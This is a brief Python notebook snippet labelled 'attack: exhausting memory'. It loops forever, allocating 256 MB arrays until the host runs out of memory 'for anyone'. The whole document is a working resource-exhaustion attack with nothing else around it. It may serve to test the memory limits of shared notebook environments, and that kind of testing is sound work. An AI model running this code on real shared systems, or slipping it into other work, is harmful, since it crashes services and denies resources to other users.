# attack: exhausting memory
# A blank notebook allocates and touches memory until none is left for anyone.
import numpy as np

hog = []
while True:
    hog.append(np.ones(256 * 1024 * 1024, dtype=np.uint8))
